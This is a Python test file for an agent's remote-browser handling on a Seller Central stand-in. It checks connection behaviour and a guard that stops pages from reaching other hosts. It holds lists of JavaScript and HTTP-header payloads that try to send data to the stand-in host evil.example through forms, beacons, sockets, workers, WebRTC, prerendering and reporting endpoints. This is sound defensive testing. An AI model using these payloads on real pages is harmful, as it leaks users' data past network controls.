"""A browser on another machine.

Visits go there, it is let go and not ended, and its guard is no weaker than our own browser's.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from contextlib import suppress
from dataclasses import dataclass, field, replace
from pathlib import Path

import pytest
from aiohttp import web
from playwright.async_api import Error

from agent.domain.authorization import State
from agent.settings.groups.visits import BrowserSettings
from agent.settings.model import Settings
from agent.visits.shared.browser_pool import BrowserPool, browser_options
from fixtures.stand_in.generate import one_account
from fixtures.stand_in.site.certificate import make_identity
from fixtures.stand_in.site.server import end
from fixtures.stand_in.world import StandIn
from flows.browser.launch import BrowserOptions, is_safe_endpoint, open_browser, process_of
from flows.errors import BrowserMissingError, ForeignHostError
from flows.visit.open_visit import open_visit
from flows.visit.visit import Visit
from tests.support.servers.remote_browser import KINDS, remote_browser
from tests.support.visits.rehearsal import rehearsing

# A line holds one page.
# ruff: noqa: E501

HOST, EVIL = "https://sellercentral.amazon.com", "https://evil.example"


def flags(rules: str, pins: list[str]) -> list[str]:
    return [f"--host-resolver-rules={rules}", f"--ignore-certificate-errors-spki-list={','.join(pins)}"]


@pytest.mark.sampled(1)
@pytest.mark.parametrize("kind", KINDS)
async def test_visits_go_there_and_leave_it_running(kind: str, unused_tcp_port: int, tmp_path: Path) -> None:
    async with remote_browser(kind, tmp_path, port=unused_tcp_port) as remote:
        options = browser_options(
            Settings(browser=BrowserSettings(endpoint=remote.endpoint, executable=Path("/no/such/browser")))
        )
        pool = BrowserPool(options=options, replace_after=10)
        for _ in range(2):
            async with pool.browser() as browser, open_visit(browser, options=options) as visit:
                await visit.page.goto("data:text/html,<title>far away</title>")
                assert await visit.page.title() == "far away"
                assert process_of(browser) is None
        await pool.close()
        assert remote.process.returncode is None, "a remote browser is let go, not ended"


async def test_one_that_is_not_there_is_one_clear_line(unused_tcp_port: int) -> None:
    for endpoint in (f"http://127.0.0.1:{unused_tcp_port}", f"ws://127.0.0.1:{unused_tcp_port}/browser"):
        pool = BrowserPool(options=BrowserOptions(endpoint=endpoint), replace_after=10)
        with pytest.raises(BrowserMissingError, match=f"127.0.0.1:{unused_tcp_port}") as caught:
            async with pool.browser():
                pass
        assert "\n" not in str(caught.value)


@pytest.mark.sampled(1)
@pytest.mark.parametrize("kind", KINDS)
async def test_an_invitation_is_accepted_in_it(kind: str, unused_tcp_port: int, tmp_path: Path) -> None:
    async with StandIn(one_account(3)) as stand_in:
        told = stand_in.description()
        given = flags(told["host_resolver_rules"], told["spki"])
        async with remote_browser(kind, tmp_path, port=unused_tcp_port, arguments=given) as remote:
            with rehearsing(stand_in, tmp_path) as ready:
                browser = ready.settings.browser.model_copy(update={"endpoint": remote.endpoint})
                rehearsal = replace(ready, settings=ready.settings.model_copy(update={"browser": browser}))
                rehearsal.register()
                account = await rehearsal.accept()
        assert account.authorization in (State.AWAITING_PERMISSIONS, State.AWAITING_CONFIRMATION)
        assert list(stand_in.realm.journal.summary()["acceptances"].values()) == [1]
        assert stand_in.realm.journal.of("danger.", "code.reused", "password.rejected") == []


LEAKS = {
    "a redirect": "<script>location='/away'</script>",
    "a redirected form": "<form id=f method=post action='/away'><input name=p value=1></form><script>f.submit()</script>",
    "a form": f"<form id=f method=post action='{EVIL}/form'><input name=p value=1></form><script>f.submit()</script>",
    "a frame": f"<iframe src='{EVIL}/frame'></iframe>",
    "a redirected frame": "<iframe src='/away'></iframe>",
}
WORKER = "new Worker(URL.createObjectURL(new Blob([`{}`])))"
NOISE = {
    "a redirected fetch": "fetch('/away',{method:'POST',mode:'no-cors',body:'1'})",
    "a beacon": f"navigator.sendBeacon('{EVIL}/beacon','1')",
    "a socket": "new WebSocket('wss://evil.example/ws')",
    "a socket of a frame": "document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: `<script>new WebSocket('wss://evil.example/frame')</script>`}))",
    "a socket of an empty frame": "const f = document.createElement('iframe'); document.body.append(f); new f.contentWindow.WebSocket('wss://evil.example/empty')",
    "a worker's socket": WORKER.format("new WebSocket('wss://evil.example/worker')"),
    "a worker's request": WORKER.format(f"fetch('{EVIL}/worker',{{method:'POST',mode:'no-cors',body:'1'}})"),
    "a module worker's socket": WORKER.format("new WebSocket('wss://evil.example/module')").replace("])))", "])), {type: 'module'})"),
    "a page made beforehand": f"document.head.append(Object.assign(document.createElement('script'), {{type: 'speculationrules', text: JSON.stringify({{prerender: [{{source: 'list', urls: ['{EVIL}/prerender'], eagerness: 'immediate'}}]}})}}))",
    "our page made beforehand": "document.head.append(Object.assign(document.createElement('script'), {type: 'speculationrules', text: JSON.stringify({prerender: [{source: 'list', urls: ['/made', '/away'], eagerness: 'immediate'}]})}))",
    "a page fetched beforehand": f"document.head.append(Object.assign(document.createElement('script'), {{type: 'speculationrules', text: JSON.stringify({{prefetch: [{{source: 'list', urls: ['{EVIL}/prefetch'], eagerness: 'immediate'}}]}})}}))",
    "rules that a header names": "0",
    "a later request": f"fetchLater('{EVIL}/later', {{method: 'POST', body: '1', activateAfter: 0}})",
    "a way to pay": f"new PaymentRequest([{{supportedMethods: '{EVIL}/pay'}}], {{total: {{label: 'x', amount: {{currency: 'USD', value: '1'}}}}}}).canMakePayment()",
    "a login of another site": f"navigator.credentials?.get({{identity: {{providers: [{{configURL: '{EVIL}/login.json', clientId: '1'}}]}}}})",
    "a picture that attributes": f"document.body.append(Object.assign(document.createElement('img'), {{attributionSrc: '{EVIL}/attributed', src: '/p.png'}}))",
    "a fetch that outlives the page": f"fetch('{EVIL}/keepalive', {{method: 'POST', mode: 'no-cors', keepalive: true, body: '1'}}); location.hash = 'x'",
    "a link's ping": f"document.body.append(Object.assign(document.createElement('a'), {{ping: '{EVIL}/ping', href: '#x'}})); document.querySelector('a').click()",
    "a module fetched beforehand": f"document.head.append(Object.assign(document.createElement('link'), {{rel: 'modulepreload', href: '{EVIL}/module.js'}}))",
    "a dictionary": f"document.head.append(Object.assign(document.createElement('link'), {{rel: 'compression-dictionary', href: '{EVIL}/dictionary'}}))",
    "an icon": f"document.head.append(Object.assign(document.createElement('link'), {{rel: 'icon', href: '{EVIL}/icon.png'}}))",
    "a manifest": f"document.head.append(Object.assign(document.createElement('link'), {{rel: 'manifest', href: '{EVIL}/manifest.json'}}))",
    "a connection made beforehand": f"document.head.append(Object.assign(document.createElement('link'), {{rel: 'preconnect', href: '{EVIL}'}}))",
    "a name looked up beforehand": f"document.head.append(Object.assign(document.createElement('link'), {{rel: 'dns-prefetch', href: '{EVIL}'}}))",
    "a session over another transport": f"new WebTransport('{EVIL}/transport')",
    "a peer": "const p = new RTCPeerConnection({iceServers: [{urls: 'turns:evil.example:443?transport=tcp', username: 'u', credential: 'p'}]}); p.createDataChannel('x'); p.createOffer().then((offer) => p.setLocalDescription(offer))",
    "a peer of an empty frame": "const f = document.createElement('iframe'); document.body.append(f); const p = new f.contentWindow.RTCPeerConnection({iceServers: [{urls: 'turns:evil.example:443?transport=tcp', username: 'u', credential: 'p'}]}); p.createDataChannel('x'); p.createOffer().then((offer) => p.setLocalDescription(offer))",
    "a violation that is reported": f"document.body.append(Object.assign(document.createElement('img'), {{src: '{EVIL}/violates.png'}})); new ReportingObserver(() => 0).observe(); document.querySelector('#none')",
    "a stream of events": f"new EventSource('{EVIL}/events')",
    "an auction": f"navigator.joinAdInterestGroup?.({{owner: '{EVIL}', name: 'x', biddingLogicURL: '{EVIL}/bid.js'}}, 9)",
    "a service worker": "navigator.serviceWorker?.register('/worker.js')",
    "a sub-document's style": f"const f = document.createElement('iframe'); f.srcdoc = `<style>@import '{EVIL}/import.css'; @font-face {{ font-family: x; src: url({EVIL}/font) }} p {{ font-family: x }}</style><p>x</p>`; document.body.append(f)",
    "a link's hint": f"document.head.append(Object.assign(document.createElement('link'), {{rel: 'prefetch', href: '{EVIL}/hint'}}))",
}  # fmt: skip


RULES = f'{{"prerender": [{{"urls": ["{EVIL}/ruled"], "eagerness": "immediate"}}]}}'  # an answer's header names them

# What an answer may have the browser do by itself: fetch, connect, and tell others what went wrong.
HINTS = {
    "Speculation-Rules": '"/rules"',
    "Link": f"<{EVIL}>; rel=preconnect, <{EVIL}/linked.js>; rel=preload; as=script, <{EVIL}/linked.js>; rel=modulepreload",
    "Report-To": f'{{"group":"g","max_age":86400,"endpoints":[{{"url":"{EVIL}/reported"}}]}}',
    "Reporting-Endpoints": f'g="{EVIL}/reported", default="{EVIL}/reported"',
    "NEL": '{"report_to":"g","max_age":86400,"success_fraction":1.0,"failure_fraction":1.0}',
    "Content-Security-Policy-Report-Only": f"img-src 'none'; report-uri {EVIL}/violated; report-to g",
}


@dataclass(slots=True)
class Site:
    """Serves a page that leaks.

    `evil.example` is the same server, so what does not arrive was stopped.
    """

    page: str = ""
    asked: list[str] = field(default_factory=list)

    async def answer(self, request: web.BaseRequest) -> web.StreamResponse:
        self.asked.append(f"{request.method} {request.host}{request.path}")
        if request.path == "/away":
            raise web.HTTPTemporaryRedirect(f"{EVIL}/landed")
        if request.path == "/rules":
            return web.Response(text=RULES, content_type="application/speculationrules+json")
        return web.Response(text=self.page, content_type="text/html", headers=HINTS)


@pytest.fixture
async def site() -> AsyncIterator[tuple[Site, list[str]]]:
    site, identity = Site(), make_identity(["*.amazon.com", "evil.example"])
    identity.context.sni_callback = lambda _socket, name, _context: site.asked.append(f"TLS {name}")
    runner = web.ServerRunner(web.Server(site.answer))
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0, ssl_context=identity.context).start()
    yield site, flags(f"MAP * 127.0.0.1:{runner.addresses[0][1]}", [identity.pin])
    await end(runner)


async def led_away(visit: Visit) -> None:
    """Wait until the guard says that the page wanted to leave.

    What an answer's header hints at is stopped sooner, and leads nowhere.
    """
    async with asyncio.timeout(60):
        while True:
            visit.guard.check()
            await asyncio.sleep(0.05)


@pytest.mark.parametrize("kind", KINDS)
async def test_nothing_goes_to_another_host_from_it(
    kind: str, site: tuple[Site, list[str]], unused_tcp_port: int, tmp_path: Path
) -> None:
    served, given = site
    async with remote_browser(kind, tmp_path, port=unused_tcp_port, arguments=given) as remote:
        options = BrowserOptions(endpoint=remote.endpoint)
        async with open_browser(options) as browser:
            for name, page in LEAKS.items():
                served.page = page
                async with open_visit(browser, options=options) as visit:
                    with suppress(Error):  # the page may be led away while it loads
                        await visit.page.goto(f"{HOST}/leak", wait_until="commit")
                    with pytest.raises(ForeignHostError):
                        await led_away(visit)
                assert [line for line in served.asked if "evil.example" in line] == [], name


@pytest.mark.sampled(1)
@pytest.mark.parametrize("kind", KINDS)
async def test_what_a_page_does_in_the_background_reaches_no_other_host_from_it_and_the_visit_goes_on(
    kind: str, site: tuple[Site, list[str]], unused_tcp_port: int, tmp_path: Path
) -> None:
    served, given = site
    async with remote_browser(kind, tmp_path, port=unused_tcp_port, arguments=given) as remote:
        options = BrowserOptions(endpoint=remote.endpoint)
        async with open_browser(options) as browser:
            for name, run in NOISE.items():
                served.page = f"<html><head></head><body><script>try {{ {run} }} catch (e) {{}}</script></body></html>"
                async with open_visit(browser, options=options) as visit:
                    await visit.page.goto(f"{HOST}/noise")
                    await visit.page.evaluate("() => new Promise(done => setTimeout(done, 500))")
                    visit.guard.check()
                assert [line for line in served.asked if "evil.example" in line] == [], name
    assert "TLS sellercentral.amazon.com" in served.asked, "a connection is told by its name"


@pytest.mark.parametrize(
    "endpoint", ["http://192.0.2.1:9222", "ws://browser.example:3000/x", "http://[2001:db8::1]:9222"]
)
async def test_passwords_never_go_to_it_over_plain_text(endpoint: str) -> None:
    with pytest.raises(BrowserMissingError, match="wss:// or https://"):
        async with open_browser(BrowserOptions(endpoint=endpoint)):
            pass
    assert is_safe_endpoint("ws://localhost:3000/x")
    assert is_safe_endpoint("http://[::1]:9222")
    assert is_safe_endpoint("wss://browser.example/x")
